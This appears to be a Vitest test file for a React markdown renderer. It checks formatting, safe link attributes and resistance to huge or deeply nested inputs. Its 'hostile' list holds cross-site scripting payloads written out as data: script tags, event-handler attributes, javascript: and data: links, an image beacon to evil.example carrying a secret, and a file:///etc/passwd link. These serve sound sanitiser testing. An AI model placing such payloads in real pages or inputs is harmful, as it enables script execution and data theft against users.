import { renderToStaticMarkup } from "react-dom/server";
import { expect, test } from "vitest";
import { splitAnswer } from "@/lib/playground/answer-blocks";
import { RichBlock } from "./rich-block";

const draw = (text: string) =>
  splitAnswer(text)
    .map(({ kind, source }) => renderToStaticMarkup(<RichBlock kind={kind} source={source} />))
    .join("")
    // Our own icon on our own button.
    .replaceAll(/<svg width="14"[\s\S]*?<\/svg>/g, "");

test("Markdown becomes elements", () => {
  const html = draw(
    "# Title\n\nSome **bold**, _soft_, ~~old~~ and `a<b`.\n\n- [x] done\n- [ ] not\n\n3. three\n4. four\n",
  );
  expect(html).toContain("<h3>Title</h3>");
  expect(html).toContain("<strong>bold</strong>");
  expect(html).toContain("<code>a&lt;b</code>");
  expect(html).toMatch(/<input type="checkbox"[^>]*checked/);
  expect(html).toContain('<ol start="3">');
  expect(draw("|a|b|\n|-|-:|\n|1|2|\n")).toMatch(/<td align="right">2<\/td>/);
  expect(draw("a &amp; b &#x2192; &unknown;")).toContain("a &amp; b → &amp;unknown;");
});

const hostile = [
  "<script>alert(1)</script>",
  "Hi <img src=x onerror=alert(1)> there",
  "<div onclick='x()'>\n<iframe src=//evil.example></iframe>\n</div>",
  "![pixel](https://evil.example/p.png?secret)",
  "![x](data:image/svg+xml;base64,PHN2Zz4=)",
  "[click](javascript:alert(1))",
  "[click](JaVaScRiPt:alert(1))",
  "[click](data:text/html,<script>alert(1)</script>)",
  "[click](vbscript:x) [b](//evil.example) [c](file:///etc/passwd) [d](https://user:pass@evil.example)",
  "<javascript:alert(1)>",
  "[a]: javascript:alert(1)\n[a]",
  "| <script>x</script> | ![i](http://e.example/i) |\n|-|-|\n| <svg onload=x> | [l](javascript:x) |",
  "- <style>*{display:none}</style>\n- <base href=//evil.example>",
  '```"><script>\n</code></pre><script>alert(1)</script>\n```',
  "> <form action=//evil.example><input name=a></form>",
  "$\\href{javascript:alert(1)}{x}$ and $$\\includegraphics{https://evil.example/i.png}$$",
  "\u0000<scr\u0000ipt>alert(1)</script>",
];

test.each(hostile)("nothing runs, loads or leads elsewhere: %j", (text) => {
  const html = draw(text);
  expect(html).not.toMatch(/<(script|img|iframe|svg|style|base|form|object|embed|link|meta)\b/i);
  // Attributes that could act, inside of a tag that we made.
  expect(html).not.toMatch(/<[^>]*\s(on\w+|src|srcset|style|action|formaction)=/i);
  for (const [, href] of html.matchAll(/href="([^"]*)"/g)) expect(href).toMatch(/^(https?:|mailto:)/);
});

test("a link opens elsewhere without a way back, and says where it leads", () => {
  const html = draw("[your bank](https://evil.example/login) or <mailto:a@b.example>");
  expect(html).toContain('href="https://evil.example/login" target="_blank" rel="noopener noreferrer nofollow"');
  expect(html).toContain("(evil.example)");
});

test.each([
  ["quotes", `${"> ".repeat(1_000)}x`],
  ["quotes, a line each", Array.from({ length: 1_000 }, (_, level) => `${"> ".repeat(level)}x`).join("\n")],
  ["lists", Array.from({ length: 1_000 }, (_, level) => `${"  ".repeat(level)}- x`).join("\n")],
  ["lists in a line", `${"- ".repeat(1_000)}x`],
  ["emphasis", "_a_".repeat(10_000)],
  ["stars", "*".repeat(50_000)],
  ["brackets", "[".repeat(50_000)],
  ["images", "![".repeat(50_000)],
  ["tags", "<a ".repeat(50_000)],
  ["a table", `${"|a".repeat(9_000)}\n${"|-".repeat(9_000)}\n`],
  ["dollars", "$a ".repeat(20_000)],
  ["a paragraph", "word ".repeat(200_000)],
  ["an open fence", `\`\`\`js\n${"x = 1\n".repeat(100_000)}`],
])("a megabyte or a thousand levels of %s do not hold up the page", (_, text) => {
  const started = performance.now();
  expect(draw(text).length).toBeGreaterThan(0);
  expect(performance.now() - started).toBeLessThan(4_000);
});
